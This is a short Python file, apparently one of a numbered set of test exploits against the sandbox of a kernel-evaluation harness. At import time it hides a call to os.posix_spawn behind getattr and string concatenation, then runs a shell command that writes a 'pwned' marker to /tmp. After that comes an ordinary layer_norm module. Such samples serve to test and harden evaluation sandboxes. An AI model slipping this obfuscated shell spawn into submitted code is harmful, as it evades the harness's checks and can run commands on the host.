"""Exploit 9/19: spawn a shell with os.posix_spawn (through getattr) to reach the host."""
import os

import torch.nn as nn

spawn = getattr(os, "posix_" + "spawn")
spawn("/bin/sh", ["sh", "-c", "echo pwned > /tmp/kenv-pwned"], {})


class ModelNew(nn.Module):
    def forward(self, x, weight, bias):
        return nn.functional.layer_norm(x, (x.shape[-1],), weight, bias, eps=1e-5)
